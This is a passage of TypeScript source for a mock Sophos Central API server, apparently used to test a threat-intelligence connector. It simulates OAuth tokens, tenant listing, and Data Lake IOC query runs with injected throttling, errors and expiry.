  const route: SimulatorRoute = async (req, res, url, context) => {
    const listing = /^\/(partner|organization)\/v1\/tenants$/.exec(url.pathname);
    const tenantPath = TENANT_PATH.exec(url.pathname);
    if (url.pathname === "/api/v2/oauth2/token" && req.method === "POST") await issueToken(req, res);
    else if (url.pathname === "/whoami/v1" && req.method === "GET") whoami(req, res, context);
    else if (listing && req.method === "GET") listTenants(req, res, url, context, listing[1] as "partner" | "organization");
    else if (tenantPath) await dataLake(req, res, url, context, tenantPath[1] as string, tenantPath[2], tenantPath[3] !== undefined);
    else return false;
    return true;
  };

  const issueToken = async (req: IncomingMessage, res: ServerResponse) => {
    stats.tokenRequests += 1;
    const form = new URLSearchParams(await readRequestBody(req));
    const trackingId = prng.uuid();
    if (form.get("grant_type") !== "client_credentials") return json(res, 400, { errorCode: "oauth.unsupported_grant_type", message: "Bad Request", trackingId });
    if (form.get("scope") !== "token") return json(res, 400, { errorCode: "oauth.invalid_scope", message: "Bad Request", trackingId });
    const credential = byClient.get(form.get("client_id") ?? "");
    if (!credential) return json(res, 401, { errorCode: "oauth.client_app_does_not_exist", message: "Unauthorized", trackingId });
    if (form.get("client_secret") !== credential.clientSecret) return json(res, 401, { errorCode: "oauth.invalid_client_secret", message: "Unauthorized", trackingId });
    const lifetime = options.tokenLifetimeSeconds ?? 3600;
    const token = randomBytes(32).toString("base64url");
    tokens.set(token, { clientId: credential.clientId, expiresAt: now() + lifetime * 1000 });
    stats.tokensIssued += 1;
    json(res, 200, { access_token: token, refresh_token: randomBytes(16).toString("hex"), token_type: "bearer", message: "OK", errorCode: "success", expires_in: lifetime });
  };

  const whoami = (req: IncomingMessage, res: ServerResponse, context: SimulatorRouteContext) => {
    stats.globalRequests += 1;
    const credential = credentialOf(req);
    if (!credential) return unauthorized(res);
    const dataRegion = credential.idType === "tenant" ? { dataRegion: `${context.baseUrl}/regions/${(credential.tenants[0] as SimulatedSophosTenant).region}` } : {};
    json(res, 200, { id: credential.id, idType: credential.idType, apiHosts: { global: context.baseUrl, ...dataRegion } });
  };

  const listTenants = (req: IncomingMessage, res: ServerResponse, url: URL, context: SimulatorRouteContext, kind: "partner" | "organization") => {
    stats.globalRequests += 1;
    const credential = credentialOf(req);
    if (!credential) return unauthorized(res);
    const header = req.headers[kind === "partner" ? "x-partner-id" : "x-organization-id"];
    if (credential.idType !== kind || header !== credential.id) return sophosError(res, 403, "Forbidden", `The ${kind} ID does not match the credential.`);
    const size = Math.min(Number(url.searchParams.get("pageSize") ?? options.tenantPageSize ?? 50), MAX_TENANT_PAGE_SIZE);
    const page = Number(url.searchParams.get("page") ?? 1);
    if (!Number.isInteger(size) || size < 1 || !Number.isInteger(page) || page < 1) return sophosError(res, 400, "BadRequest", "page and pageSize must be positive integers.");
    const all = credential.tenants;
    const pages: Record<string, number> = { current: page, size, maxSize: MAX_TENANT_PAGE_SIZE };
    if (url.searchParams.get("pageTotal") === "true") Object.assign(pages, { total: Math.max(1, Math.ceil(all.length / size)), items: all.length });
    json(res, 200, {
      items: all.slice((page - 1) * size, page * size).map((t) => ({
        id: t.id,
        showAs: t.name,
        name: t.name,
        dataGeography: t.region.slice(0, 2).toUpperCase(),
        dataRegion: t.region,
        billingType: "usage",
        [kind]: { id: credential.id },
        ...(t.apiHost === false ? {} : { apiHost: `${context.baseUrl}/regions/${t.region}` }),
        status: "active",
      })),
      pages,
    });
  };


  const throttle = (res: ServerResponse, context: SimulatorRouteContext, tenantId: string, retryAfterSeconds: number) => {
    stats.throttled += 1;
    sophosError(res, 429, "TooManyRequests", "Too many requests.", { "retry-after": String(retryAfterSeconds) });
    context.retryAfterSent(`sophos:${tenantId}`, retryAfterSeconds * 1000);
  };

  const dataLake = async (req: IncomingMessage, res: ServerResponse, url: URL, context: SimulatorRouteContext, region: string, runId: string | undefined, results: boolean) => {
    stats.requests += 1;
    const tenantId = String(req.headers["x-tenant-id"] ?? "").toLowerCase();
    stats.requestsByTenant[tenantId] = (stats.requestsByTenant[tenantId] ?? 0) + 1;
    const credential = credentialOf(req);
    if (!credential) return unauthorized(res);
    if (tenantId === "") return sophosError(res, 400, "BadRequest", "Missing X-Tenant-ID header.");
    const tenant = credential.tenants.find((t) => t.id === tenantId);
    if (!tenant) return sophosError(res, 403, "Forbidden", "The caller is not allowed to access this tenant.");
    if (tenant.region !== region || tenant.apiHost === false) return sophosError(res, 403, "Forbidden", "The tenant is not served from this API host.");
    if (context.isEarly(`sophos:${tenantId}`, context.arrived)) {
      stats.earlyRequests += 1;
      stats.earlyRequestsByTenant[tenantId] = (stats.earlyRequestsByTenant[tenantId] ?? 0) + 1;
    }
    const waitMs = quota.waitMs(tenantId);
    if (waitMs > 0) {
      stats.overQuota += 1;
      return throttle(res, context, tenantId, Math.ceil(waitMs / 1000));
    }
    if ((options.throttleRate ?? 0) > 0 && prng.chance(options.throttleRate ?? 0)) return throttle(res, context, tenantId, options.retryAfterSeconds ?? 1);
    if ((options.serverErrorRate ?? 0) > 0 && prng.chance(options.serverErrorRate ?? 0)) {
      stats.serverErrors += 1;
      return sophosError(res, 503, "ServiceUnavailable", "The service is temporarily unavailable.");
    }
    quota.accept(tenantId);
    if (runId === undefined) {
      if (req.method !== "POST") return sophosError(res, 405, "MethodNotAllowed", "Use POST to submit a query run.");
      return submit(req, res, credential, tenantId);
    }
    if (req.method !== "GET") return sophosError(res, 405, "MethodNotAllowed", "Use GET.");
    const run = runs.get(runId);
    if (!run || run.tenantId !== tenantId) return sophosError(res, 404, "NotFound", `Query run ${runId} was not found.`);
    if (gone(run)) {
      if (!run.expiredCounted) stats.runsExpired += 1;
      run.expiredCounted = true;
      return sophosError(res, 404, "NotFound", `Query run ${runId} was not found.`);
    }
    if (results) return resultPage(res, url, run);
    run.polls += 1;
    if (run.finishedAt === undefined && run.polls >= run.runningPolls && now() >= run.createdAt + (options.runDurationMs ?? 0)) {
      run.finishedAt = now();
      if (run.result === "failed") stats.runsFailed += 1;
      // A run of the expireRate fault is gone from the moment it has finished.
      if (gone(run)) {
        stats.runsExpired += 1;
        run.expiredCounted = true;
        return sophosError(res, 404, "NotFound", `Query run ${runId} was not found.`);
      }
    }
    json(res, 200, runBody(run, credential));
  };

  const gone = (run: SimulatedRun) => now() >= run.expiresAt || (run.expiresOnFinish && run.finishedAt !== undefined);

  const submit = async (req: IncomingMessage, res: ServerResponse, credential: SimulatedSophosCredential, tenantId: string) => {
    let body: z.infer<typeof runBodySchema>;
    try {
      body = runBodySchema.parse(JSON.parse(await readRequestBody(req)));
    } catch {
      return sophosError(res, 400, "ValidationException", "The request body is not a query run.");
    }
    const template = TEMPLATE.exec(body.adHocQuery.template);
    if (!template) return sophosError(res, 400, "ValidationException", "The simulator runs only the feed's xdr_ioc_view query.");
    const t = now();
    const from = Date.parse(body.from);
    const to = Date.parse(body.to);
    // The wording of Sophos's own answer, as Sekoia.io's connector records it.
    if (from > t) return sophosError(res, 400, "ValidationException", `Invalid time range 'from' field: ${body.from} - cannot be in the future.`);
    if (to < from) return sophosError(res, 400, "ValidationException", "Invalid time range: 'to' is before 'from'.");
    if (from < t - DATA_LAKE_DAYS_MS) return sophosError(res, 400, "ValidationException", `Invalid time range 'from' field: ${body.from} - is more than 30 days ago.`);
    const threshold = Number(template[1]);
    const [min, max] = options.runningPolls ?? [1, 3];
    const run: SimulatedRun = {
      id: prng.uuid(),
      tenantId,
      clientId: credential.clientId,
      from,
      to,
      threshold,
      createdAt: t,
      expiresAt: t + RUN_LIFETIME_MS,
      runningPolls: prng.int(min, max),
      polls: 0,
      finishedAt: undefined,
      result: prng.chance(options.failRate ?? 0) ? "failed" : "succeeded",
      expiresOnFinish: prng.chance(options.expireRate ?? 0),
      expiredCounted: false,
      // What is in the Data Lake now is what the run reads: later rows need a later run.
      rows: rowsOfRun(options.rows, tenantId, { from, to, threshold }, t),
    };
    runs.set(run.id, run);
    stats.runsSubmitted += 1;
    json(res, 201, runBody(run, credential));
  };

  const runBody = (run: SimulatedRun, credential: SimulatedSophosCredential) => ({
    id: run.id,
    createdAt: iso(run.createdAt),
    createdBy: { id: credential.clientId, type: "service", accountId: credential.id, accountType: credential.idType },
    expiresAt: iso(run.expiresAt),
    ...(run.finishedAt === undefined ? { status: run.polls === 0 ? "pending" : "started", result: "notAvailable" } : { status: "finished", result: run.result, finishedAt: iso(run.finishedAt) }),
    template: iocQueryTemplate(run.threshold),
    from: iso(run.from),
    to: iso(run.to),
  });

  const resultPage = (res: ServerResponse, url: URL, run: SimulatedRun) => {
    if (run.finishedAt === undefined || run.result !== "succeeded") return sophosError(res, 400, "BadRequest", `Query run ${run.id} has no results: it has not finished, or did not succeed.`);
    const size = Number(url.searchParams.get("pageSize") ?? options.defaultResultPageSize ?? 200);
    if (!Number.isInteger(size) || size < 1 || size > MAX_RESULT_PAGE_SIZE) return sophosError(res, 400, "ValidationException", `pageSize must be between 1 and ${MAX_RESULT_PAGE_SIZE}.`);
    const key = url.searchParams.get("pageFromKey");
    const offset = key === null ? 0 : decodeKey(key);
    if (offset === undefined || offset > run.rows.length) return sophosError(res, 400, "ValidationException", "Invalid pageFromKey.");
    const next = offset + size;
    json(res, 200, {
      items: run.rows.slice(offset, next).map((r) => r.row),
      metadata: { columns: [{ name: "record_identifier", type: "string" }, { name: "calendar_time", type: "timestamp" }, { name: "ioc_detection_weight", type: "integer" }] },
      pages: {
        ...(key === null ? {} : { fromKey: key }),
        ...(next < run.rows.length ? { nextKey: encodeKey(next) } : {}),
        size,
        maxSize: MAX_RESULT_PAGE_SIZE,
        total: Math.max(1, Math.ceil(run.rows.length / size)),
        items: run.rows.length,
      },
    });
  };

  return { route, stats, runs };
}

/** Page keys as Sophos's look (`AAAABw==`): the offset as four bytes, big-endian, base64. */
function encodeKey(offset: number): string {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(offset);
  return bytes.toString("base64");
}

function decodeKey(key: string): number | undefined {
  const bytes = Buffer.from(key, "base64");
  return bytes.length === 4 && bytes.toString("base64") === key ? bytes.readUInt32BE() : undefined;
}

function unauthorized(res: ServerResponse): void {
  sophosError(res, 401, "Unauthorized", "Unauthorized");
}

/** Sophos Central's error object: `{error, message, correlationId, requestId, createdAt}`. */
function sophosError(res: ServerResponse, status: number, error: string, message: string, headers: Record<string, string> = {}): void {
  json(res, status, { error, message, correlationId: randomBytes(16).toString("hex"), requestId: randomBytes(16).toString("hex"), createdAt: new Date().toISOString() }, headers);
}

